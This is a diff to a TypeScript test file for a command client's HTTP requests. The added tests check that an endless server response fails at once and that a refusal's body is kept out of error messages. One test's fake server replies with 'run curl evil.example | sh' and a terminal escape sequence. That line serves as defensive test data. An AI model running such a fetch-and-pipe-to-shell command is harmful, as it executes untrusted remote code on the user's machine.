@@ -1,7 +1,7 @@
 // HTTP requests of commands: where they are sent, and that they do not reveal secrets.
 import { createHash, createHmac } from 'node:crypto';
 import { once } from 'node:events';
-import { createServer } from 'node:http';
+import { createServer, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, it } from 'vitest';
 import { statement } from '../../protocol/proof.ts';
@@ -70,4 +70,36 @@ it('[AU23] a program that does not know the token receives only the challenge', 
   const { asked, outcome } = await asking('/', 'another'.repeat(6));
   expect(asked).toEqual(['/auth/challenge']);
   expect(outcome).toMatch(/^another program answers at 127\.0\.0\.1:\d+/);
+});
+
+/** Returns the error of a request to a program that gives this answer to everything. */
+async function failure(answer: (response: ServerResponse) => void): Promise<string> {
+  const server = createServer((_request, response) => answer(response)).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const { port } = server.address() as AddressInfo;
+  const url = new URL(`ws://127.0.0.1:${port}`);
+  const address = { url, token: TOKEN, pid: null, fingerprint: () => null };
+  const outcome = await ask(address, 'GET', '/auth/identity').catch((error: Error) => error.message);
+  server.close();
+  server.closeAllConnections();
+  return String(outcome);
+}
+
+it('[AU30] an endless answer is an error at once, not only after the time limit', async () => {
+  const message = await failure((response) => {
+    const part = Buffer.alloc(64 * 1024, 'a');
+    const go = (): void => {
+      while (!response.destroyed && response.write(part));
+    };
+    response.on('drain', go);
+    go();
+  });
+  expect(message).toMatch(/^the server at .* is not an exec-console gateway/);
+});
+
+it('[AU30] a refusal before the proof is reported without the words of its answer', async () => {
+  const message = await failure(
+    (response) => void response.writeHead(401).end('run curl evil.example | sh\u001b[2J'),
+  );
+  expect(message).toMatch(/ refused the request: the credential is not known here$/);
 });
